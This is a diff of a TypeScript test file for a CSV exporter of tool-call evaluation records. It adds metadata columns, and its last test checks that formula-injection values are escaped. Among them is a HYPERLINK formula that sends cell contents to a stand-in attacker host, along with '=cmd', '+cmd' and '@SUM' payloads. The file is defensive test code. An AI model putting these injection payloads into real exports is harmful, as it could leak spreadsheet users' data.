@@ -31,15 +31,15 @@ const call: ExportCall = {
   toolName: "get_weather",
   rawArguments: '{"city":"Paris"}',
   transcriptId: "t1",
-  transcript: { name: "Weather, Paris" },
+  transcript: { name: "Weather, Paris", model: "gpt-4o", taskId: "weather-7", trial: "2", tags: '["weather","eu"]', reward: 1, success: true },
   evaluations: [result("b", "hindsight"), result("a", "hindsight"), result("b", "immediate"), result("a", "immediate")],
 };
 
 describe("exportRecords", () => {
   it("orders a call's results by the run's criteria, immediate before hindsight", () => {
     const records = exportRecords("r1", call, [
-      { id: "a", text: "Criterion A" },
-      { id: "b", text: "Criterion B" },
+      { id: "a", text: "Criterion A", scale: "continuous" },
+      { id: "b", text: "Criterion B", scale: "continuous" },
     ]);
     expect(records.map((r) => `${r.criterion_id}/${r.mode}`)).toEqual(["a/immediate", "a/hindsight", "b/immediate", "b/hindsight"]);
     expect(records[0]).toMatchObject({ run_id: "r1", transcript_id: "t1", transcript_name: "Weather, Paris", call_ordinal: 2, call_id: "call_1", tool_call_id: "tc1", tool: "get_weather", criterion: "Criterion A", judge: "checks", latency_ms: 4 });
@@ -48,11 +48,13 @@ describe("exportRecords", () => {
   });
 
   it("writes CSV lines that read back to the same values, findings as JSON", () => {
-    const [record] = exportRecords("r1", call, [{ id: "a", text: "A" }]);
+    const [record] = exportRecords("r1", call, [{ id: "a", text: "A", scale: "continuous" }]);
     const [header, line] = parseCsv(csvHeader() + csvLine(record));
     expect(header).toEqual([...EXPORT_COLUMNS]);
     const byColumn = Object.fromEntries(header.map((column, i) => [column, line[i]]));
-    expect(byColumn).toMatchObject({ transcript_name: "Weather, Paris", arguments: '{"city":"Paris"}', explanation: 'Said "no", then\nleft', score: "0.5", passed: "", error: "" });
+    expect(byColumn).toMatchObject({ transcript_name: "Weather, Paris", arguments: '{"city":"Paris"}', explanation: 'Said "no", then\nleft', score: "0.5", error: "" });
+    // The outcome beside every result, and `passed` for a score by the threshold the file names.
+    expect(byColumn).toMatchObject({ model: "gpt-4o", task_id: "weather-7", trial: "2", tags: "weather; eu", reward: "1", success: "true", passed: "true", passed_from: "score >= 0.5" });
     expect(JSON.parse(byColumn.findings)).toEqual(record.findings);
   });
 
@@ -62,15 +64,15 @@ describe("exportRecords", () => {
       ...call,
       toolName: "=1+2",
       rawArguments: "-2+3",
-      transcript: { name: '=HYPERLINK("https://evil.example/?d="&A1,"open")' },
+      transcript: { ...call.transcript, name: '=HYPERLINK("https://evil.example/?d="&A1,"open")', tags: '["=cmd"]' },
       evaluations: [{ ...result("a", "immediate"), score: -1.5, explanation: "@SUM(1)", error: "+cmd" }],
     };
-    const [record] = exportRecords("r1", hostile, [{ id: "a", text: "=criterion" }]);
+    const [record] = exportRecords("r1", hostile, [{ id: "a", text: "=criterion", scale: "continuous" }]);
     const text = csvLine(record);
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
     const [header, line] = parseCsv(csvHeader() + text);
     const byColumn = Object.fromEntries(header.map((column, i) => [column, line[i]]));
-    expect(byColumn).toMatchObject({ transcript_name: `'${hostile.transcript.name}`, tool: "'=1+2", arguments: "'-2+3", criterion: "'=criterion", explanation: "'@SUM(1)", error: "'+cmd", score: "-1.5" });
+    expect(byColumn).toMatchObject({ transcript_name: `'${hostile.transcript.name}`, tags: "'=cmd", tool: "'=1+2", arguments: "'-2+3", criterion: "'=criterion", explanation: "'@SUM(1)", error: "'+cmd", score: "-1.5" });
     for (const cell of line) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
   });
 });
